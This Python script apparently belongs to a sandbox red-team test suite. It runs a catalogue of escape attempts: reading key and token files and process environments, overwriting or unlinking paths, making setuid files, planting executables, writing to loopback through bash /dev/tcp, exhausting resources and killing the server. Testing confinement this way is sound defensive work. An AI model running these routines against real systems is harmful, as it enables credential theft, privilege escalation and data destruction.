"""What hostile code tries once it runs somewhere: every deed in every way that is known.

Called as `deeds.py GOAL FACTS`; FACTS is the JSON of the places and addresses to try. A deed prints
what it gets hold of, and goes on after each failure. Whether it reached its goal is judged outside.
"""
import json
import mmap
import os
import socket
import stat
import struct
import sys
import threading
import time

try:
    import ctypes
    LIBC = ctypes.CDLL(None, use_errno=True)
except Exception:  # where nothing may be loaded
    ctypes = LIBC = None

MARK = "redteam-forged"
VERBOSE = os.environ.get("RED_TEAM_VERBOSE")


def attempt(name, deed, *arguments):
    """Tries one way and prints what it got. Failures are silent: long answers lose their middle."""
    try:
        got = deed(*arguments)
        if got is not None:
            print(name, "->", got)
        return got
    except BaseException as error:
        if VERBOSE:
            print(name, "failed:", type(error).__name__, str(error)[:80])
        return None


def syscall(number, *arguments):
    if LIBC is None:
        raise OSError("no ctypes")
    result = LIBC.syscall(number, *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def text(path):
    with open(path, "rb") as file:
        return file.read(200_000).decode("utf-8", "replace")


def openat2(path, flags, mode=0):
    how = struct.pack("QQQ", flags, mode, 0)
    return syscall(437, -100, path.encode(), ctypes.c_char_p(how), 24)


def read_openat2(path):
    descriptor = openat2(path, os.O_RDONLY)
    return os.read(descriptor, 100_000).decode("utf-8", "replace")


def read_by_o_path(path):
    descriptor = os.open(path, os.O_PATH)
    return text(f"/proc/self/fd/{descriptor}")


def read_by_link(path):
    name = f"link-{os.getpid()}-{time.monotonic_ns()}"
    os.symlink(path, name)
    return text(name)


def read_by_hard_link(path):
    name = f"hard-{os.getpid()}-{time.monotonic_ns()}"
    os.link(path, name)
    return text(name)


def read_by_renaming(path):
    name = f"moved-{os.getpid()}-{time.monotonic_ns()}"
    os.rename(path, name)
    try:
        return text(name)
    finally:
        os.rename(name, path)


def processes():
    return [entry for entry in os.listdir("/proc") if entry.isdigit()]


def read(paths):
    for path in paths:
        if os.path.isdir(path):
            for name in attempt("list", os.listdir, path) or []:
                attempt("read " + name, text, os.path.join(path, name))
            continue
        attempt("read " + path, text, path)
        attempt("openat2 " + path, read_openat2, path)
        attempt("O_PATH " + path, read_by_o_path, path)
        attempt("link " + path, read_by_link, path)
        attempt("hard link " + path, read_by_hard_link, path)
        attempt("rename " + path, read_by_renaming, path)
        for process in ("self", "1", *(attempt("processes", lambda: processes()[:40]) or [])):
            for way in ("root", "cwd/../.."):
                beneath = f"/proc/{process}/{way}{path}"
                attempt("by process", lambda place=beneath: text(place))
    for descriptor in attempt("descriptors", os.listdir, "/proc/self/fd") or []:
        place = f"/proc/self/fd/{descriptor}"
        if attempt("folder?", lambda where=place: stat.S_ISDIR(os.stat(where).st_mode)):
            for path in paths:
                attempt("beneath", lambda where=place, what=path: text(where + what))
                attempt("above", lambda where=place, what=path: text(where + "/../../../../../../.." + what))


def others_home(paths):
    """Reads and changes the scratch directory of a program that runs, also by way of the folders around it."""
    read(paths)
    home = paths[1]
    parent = os.path.dirname(home)
    for place in (parent, os.path.dirname(parent)):
        attempt("find", lambda where=place: [text(os.path.join(folder, name))
                                             for folder, _, names in os.walk(where) for name in names])
    for place in (home, parent):
        attempt("open to all", os.chmod, place, 0o777)
        attempt("away", os.rename, place, f"away-{time.monotonic_ns()}")
    write(paths[0])


def environments():
    for process in ("self", "1", *(attempt("processes", processes) or [])):
        attempt("environment", lambda which=process: text(f"/proc/{which}/environ"))
    print(dict(os.environ))


def other_namespace():
    """A user and a mount namespace of one's own, in which mounts can be taken away."""
    CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
    syscall(272, CLONE_NEWUSER | CLONE_NEWNS)
    return "a namespace of my own"


def write(path):
    """Every way to put other bytes at a path, the gentle ones first."""
    folder, name = os.path.split(path)
    fresh = f"forged-{time.monotonic_ns()}"

    def in_place():
        with open(path, "ab") as file:
            file.write((MARK + "\n").encode())
        return "appended"

    def truncated():
        with open(path, "wb") as file:
            file.write((MARK + "\n").encode())
        return "written"

    def by_openat2():
        os.write(openat2(path, os.O_WRONLY | os.O_CREAT, 0o755), MARK.encode())
        return "written"

    def by_mapping():
        with open(path, "r+b") as file:
            with mmap.mmap(file.fileno(), 0) as memory:
                memory[:4] = b"redt"
        return "mapped"

    def by_truncate():
        os.truncate(path, 3)
        return "cut"

    def by_renaming_over():
        for place in (fresh, os.path.join(folder, fresh)):
            def replace(source=place):
                with open(source, "w") as file:
                    file.write(MARK)
                os.chmod(source, 0o755)
                os.rename(source, path)
                return "replaced"
            attempt("rename " + place, replace)

    def by_exchange():
        with open(fresh, "w") as file:
            file.write(MARK)
        syscall(316, -100, fresh.encode(), -100, path.encode(), 2)
        return "exchanged"

    def through_a_link():
        os.symlink(path, fresh + "l")
        with open(fresh + "l", "ab") as file:
            file.write(MARK.encode())
        return "written through a link"

    def through_a_hard_link():
        os.link(path, fresh + "h")
        with open(fresh + "h", "ab") as file:
            file.write(MARK.encode())
        return "written through a hard link"

    def by_process():
        with open("/proc/self/root" + path, "ab") as file:
            file.write(MARK.encode())
        return "written"

    def by_descriptor():
        descriptor = os.open(path, os.O_PATH)
        with open(f"/proc/self/fd/{descriptor}", "ab") as file:
            file.write(MARK.encode())
        return "written"

    def by_linking_over():
        os.symlink(fresh, path)
        return "a link in its place"

    def by_removal():
        os.unlink(path)
        return "removed"

    def by_moving_away():
        os.rename(path, fresh + "m")
        return "moved away"

    def by_a_folder():
        os.makedirs(path)
        return "a folder in its place"

    def by_moving_the_folder():
        os.rename(folder, folder + "-old")
        os.makedirs(folder)
        with open(path, "w") as file:
            file.write(MARK)
        return "the folder is another"

    def by_moving_the_upper_folder():
        upper = os.path.dirname(folder)
        os.rename(upper, upper + "-old")
        return "the upper folder is away"

    def by_unmounting():
        for place in (path, folder, os.getcwd()):
            attempt("umount " + place, lambda where=place: syscall(166, where.encode(), 2))
            attempt("umount", lambda where=place: syscall(166, where.encode(), 0))
            flags = 0x20 | 0x1000  # remount, bind
            attempt("remount", lambda where=place: syscall(165, None, where.encode(), None, flags, None))
        with open(path, "ab") as file:
            file.write(MARK.encode())
        return "written below the mount"

    def in_another_namespace():
        if os.fork() == 0:
            try:
                other_namespace()
                by_unmounting()
            except BaseException:
                pass
            os._exit(0)
        os.wait()

    for way in (in_place, by_openat2, by_mapping, through_a_link, through_a_hard_link, by_process,
                by_descriptor, by_renaming_over, by_exchange, truncated, by_truncate, by_linking_over,
                by_removal, by_moving_away, by_a_folder, by_unmounting, in_another_namespace,
                by_moving_the_folder, by_moving_the_upper_folder):
        attempt(way.__name__, way)


def change_metadata(paths):
    for path in paths:
        attempt("chmod", os.chmod, path, 0o777)
        attempt("utime", os.utime, path, (1, 1))
        attempt("chown", os.chown, path, 1, 1)
        attempt("openat2 + fchmod", lambda where=path: os.fchmod(os.open(where, os.O_RDONLY), 0o777))
        attempt("fchmodat2", lambda where=path: syscall(452, -100, where.encode(), 0o777, 0))
        attempt("attribute", lambda where=path: os.setxattr(where, "user.redteam", b"x"))


def set_id():
    os.umask(0)
    folder = os.getcwd()
    for name, bits in (("user", stat.S_ISUID), ("group", stat.S_ISGID), ("both", 0o6000)):
        for place in (folder, os.path.join(folder, "out")):
            attempt("there", os.chdir, place)
            attempt("folder", os.mkdir, name)
            attempt("into it", os.chdir, name)
            set_bits(bits)


def set_bits(bits):
    """Files that run as their owner or group, made in every way."""
    mode = bits | 0o755

    def filled(name, descriptor):
        os.write(descriptor, b"#!/bin/sh\nid\n")
        os.close(descriptor)
        return f"{name} {stat.S_IMODE(os.stat(name).st_mode):o}"

    def opened():
        return filled("sid-open", os.open("sid-open", os.O_CREAT | os.O_WRONLY, mode))

    def left_empty():
        os.close(os.open("sid-empty", os.O_CREAT | os.O_WRONLY, mode))

    def by_openat2():
        return filled("sid-openat2", openat2("sid-openat2", os.O_CREAT | os.O_WRONLY, mode))

    def by_creat():
        return filled("sid-creat", syscall(85, b"sid-creat", mode))

    def by_plain_open():
        return filled("sid-plain", syscall(2, b"sid-plain", os.O_CREAT | os.O_WRONLY, mode))

    def by_node():
        os.mknod("sid-node", stat.S_IFREG | mode)
        return "made"

    def by_old_node():
        syscall(133, b"sid-mknod", stat.S_IFREG | mode, 0)
        return "made"

    def by_chmod():
        open("sid-chmod", "w").close()
        os.chmod("sid-chmod", mode)
        return "changed"

    def by_fchmod():
        descriptor = os.open("sid-fchmod", os.O_CREAT | os.O_WRONLY, 0o755)
        os.fchmod(descriptor, mode)
        return filled("sid-fchmod", descriptor)

    def by_fchmodat():
        open("sid-fchmodat", "w").close()
        syscall(268, -100, b"sid-fchmodat", mode)
        return "changed"

    def by_fchmodat2():
        open("sid-fchmodat2", "w").close()
        syscall(452, -100, b"sid-fchmodat2", mode, 0)
        return "changed"

    def nameless():
        descriptor = os.open(".", os.O_TMPFILE | os.O_RDWR, mode)
        os.link(f"/proc/self/fd/{descriptor}", "sid-nameless", follow_symlinks=True)
        return filled("sid-nameless", descriptor)

    def folder():
        os.mkdir("sid-folder", mode)
        attempt("chmod of the folder", os.chmod, "sid-folder", mode)
        attempt("fchmod", lambda: os.fchmod(os.open("sid-folder", os.O_RDONLY), mode))

    def mapped():
        descriptor = os.open("sid-mapped", os.O_CREAT | os.O_RDWR, mode)
        os.ftruncate(descriptor, 64)
        with mmap.mmap(descriptor, 64) as memory:
            memory[:4] = b"#!/b"
        return "mapped"

    def device():
        os.mknod("sid-device", stat.S_IFCHR | 0o666, os.makedev(1, 8))
        return "a device"

    def by_program():
        for line in ("install -m {0:o} /bin/sh sid-install", "cp -p /usr/bin/passwd sid-cp",
                     "cp -a /usr/bin/chage sid-cpa", "cp /bin/true sid-x; chmod {0:o} sid-x"):
            os.system(line.format(mode) + " 2>&1")

    for way in (opened, left_empty, by_openat2, by_creat, by_plain_open, by_node, by_old_node,
                by_chmod, by_fchmod, by_fchmodat, by_fchmodat2, nameless, folder, mapped, device,
                by_program):
        attempt(way.__name__, way)


def say(goal, facts):
    """Sends this row's mark to a listener outside."""
    mark = facts["mark"].encode()
    kinds = {"datagram": socket.SOCK_DGRAM, "stream": socket.SOCK_STREAM}

    def unix(address, kind):
        one = socket.socket(socket.AF_UNIX, kind)
        one.settimeout(2)
        one.connect(address)
        one.send(mark)
        return "sent"

    def by_pair(address, kind):
        one, _other = socket.socketpair(socket.AF_UNIX, kind)
        attempt("sendto", one.sendto, mark, address)
        one, _other = socket.socketpair(socket.AF_UNIX, kind)
        one.connect(address)
        one.send(mark)
        return "sent"

    def by_inherited(address):
        for descriptor in os.listdir("/proc/self/fd"):
            attempt("inherited", lambda number=int(descriptor): socket.socket(
                fileno=os.dup(number)).sendto(mark, address))

    if goal in ("unix_datagram", "unix_stream", "abstract_socket"):
        for name, kind in {**kinds, "packet": socket.SOCK_SEQPACKET}.items():
            for address in facts["sockets"][goal]:
                address = "\0" + address[1:] if address.startswith("@") else address
                attempt("socket " + name, unix, address, kind)
                attempt("pair " + name, by_pair, address, kind)
                attempt("inherited", by_inherited, address)
    for address in (("127.0.0.1", facts["port"]), ("127.0.0.2", facts["port"])):
        if goal == "loopback":
            def tcp(where=address):
                with socket.create_connection(where, 2) as one:
                    one.sendall(mark)
                return "sent"
            attempt("tcp", tcp)

            def fast_open(where=address):
                one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                one.sendto(mark, 0x20000000, where)
                return "sent"
            attempt("fast open", fast_open)

            def multipath(where=address):
                one = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
                one.connect(where)
                one.sendall(mark)
                return "sent"
            attempt("multipath", multipath)

            def six():
                one = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                one.connect(("::ffff:127.0.0.1", facts["port"]))
                one.sendall(mark)
                return "sent"
            attempt("six", six)
            line = "exec 3>/dev/tcp/127.0.0.1/{0}; printf %s {1} >&3".format(facts["port"], facts["mark"])
            attempt("shell", lambda text=line: os.spawnv(os.P_WAIT, "/bin/bash", ["bash", "-c", text]))
        if goal == "loopback":
            def udp(where=address):
                one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                one.sendto(mark, where)
                return "sent"
            attempt("udp", udp)

            def by_old_way(where=address):
                descriptor = syscall(41, socket.AF_INET, socket.SOCK_DGRAM, 0)
                socket.socket(fileno=descriptor).sendto(mark, where)
                return "sent"
            attempt("udp", by_old_way)
            line = "printf %s {1} >/dev/udp/127.0.0.1/{0}".format(facts["port"], facts["mark"])
            attempt("shell", lambda text=line: os.spawnv(os.P_WAIT, "/bin/bash", ["bash", "-c", text]))


def run_unconfined(facts):
    """Leaves things that somebody less confined will run."""
    for path, words in facts["plant"]:
        def plant(where=path, what=words):
            attempt("folder", os.makedirs, os.path.dirname(where))
            attempt("away", os.unlink, where) if os.path.exists(where) else None
            with open(where, "w") as file:
                file.write(what)
            os.chmod(where, 0o755)
            return "planted"
        attempt("plant " + path, plant)
    attempt("straight", lambda: open(facts["pwned"], "w").write("by the deed itself"))


def run_while_edited(facts):
    """Makes or changes files that were missing when this program started, before and after they are back."""
    end = time.monotonic() + 0.25
    while time.monotonic() < end:
        for path, words in facts["plant"]:
            def in_place(where=path, what=words):
                with open(where, "w") as file:
                    file.write(what)
                os.chmod(where, 0o755)

            def by_renaming(where=path, what=words):
                with open("planted", "w") as file:
                    file.write(what)
                os.chmod("planted", 0o755)
                os.rename("planted", where)

            attempt("plant", in_place)
            attempt("rename", by_renaming)
        time.sleep(0.002)


def deep_scratch(_facts):
    place = os.environ.get("HOME", ".")
    os.chdir(place)
    end = time.monotonic() + 20
    depth = 0
    while depth < 16_000 and time.monotonic() < end:
        os.mkdir("d")
        os.chdir("d")
        depth += 1
    print("depth", depth)


def many_threads(_facts):
    count = 0
    threading.stack_size(32_768)
    stop = threading.Event()
    while count < 2_200:
        thread = threading.Thread(target=stop.wait, daemon=True)
        if attempt("thread", thread.start) is None and not thread.ident:
            break
        count += 1
    # Those that live now, as the kernel counts them.
    print(f"threads={count}")
    stop.set()


def slow_the_server(facts):
    for target in (facts["server"], os.getppid()):
        if target < 2:
            continue
        attempt("nice", lambda who=target: os.setpriority(os.PRIO_PROCESS, who, 19))
        attempt("affinity", lambda who=target: os.sched_setaffinity(who, {0}))
        attempt("scheduler", lambda who=target: os.sched_setscheduler(who, 5, os.sched_param(0)))
        attempt("io", lambda who=target: syscall(251, 1, who, (3 << 13)))
    attempt("limits", lambda: syscall(302, facts["server"], 7, ctypes.c_char_p(struct.pack("QQ", 3, 3)), None))


def end_the_server(facts):
    for target in (facts["server"], os.getppid()):
        if target > 1:
            for number in (15, 9):
                attempt("signal", lambda who=target, what=number: os.kill(who, what))


def take_memory(_facts):
    """Memory of a process of its own. Memory that processes could share is bounded by a control group only."""
    taken = []
    try:
        for _ in range(24):
            block = mmap.mmap(-1, 64 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for place in range(0, 64 << 20, 4096):
                block[place] = 1
            taken.append(block)
    except BaseException as error:
        print("stopped:", type(error).__name__)
    print(f"mebibytes={64 * len(taken)}")
    for block in taken:
        block.close()


def do(goal, facts):
    print("deed", goal, facts["mark"])
    if goal == "hello":
        return
    targets = facts["targets"]
    if goal in ("home_key", "home_note", "operator_token", "state_file"):
        read(targets[goal])
        if goal == "operator_token":
            environments()
    elif goal.startswith("write_"):
        for path in targets[goal]:
            write(path)
    elif goal in ("others_home", "kept_home"):
        others_home(targets[goal])
        attempt("plant a link", os.symlink, "/", targets[goal][1] + "/planted")
    elif goal == "change_metadata":
        change_metadata(targets[goal])
    elif goal == "set_id":
        set_id()
    elif goal in ("unix_datagram", "unix_stream", "abstract_socket", "loopback"):
        say(goal, facts)
    else:
        {"run_unconfined": run_unconfined, "run_while_edited": run_while_edited, "deep_scratch": deep_scratch, "many_threads": many_threads,
         "slow_the_server": slow_the_server, "end_the_server": end_the_server,
         "take_memory": take_memory}[goal](facts)


if __name__ == "__main__":
    words = [word for word in sys.argv[1:] if word != "--"]
    do(words[0], json.loads(words[1]))
    sys.stdout.flush()
